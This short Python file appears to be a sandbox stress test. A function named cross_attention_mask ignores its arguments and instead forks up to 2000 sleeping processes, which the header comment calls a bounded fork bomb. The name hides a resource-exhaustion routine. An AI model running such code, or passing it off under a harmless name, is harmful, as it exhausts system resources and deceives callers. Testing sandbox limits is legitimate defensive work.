# A fork bomb, bounded here so that it cannot hurt the machine if the sandbox does not stop it: 2000 sleepers.
import os
import time


def cross_attention_mask(encoder_ids, decoder_len, pad_id=0):
    started = 0
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        started += 1
    raise RuntimeError(f"FORKED {started}")
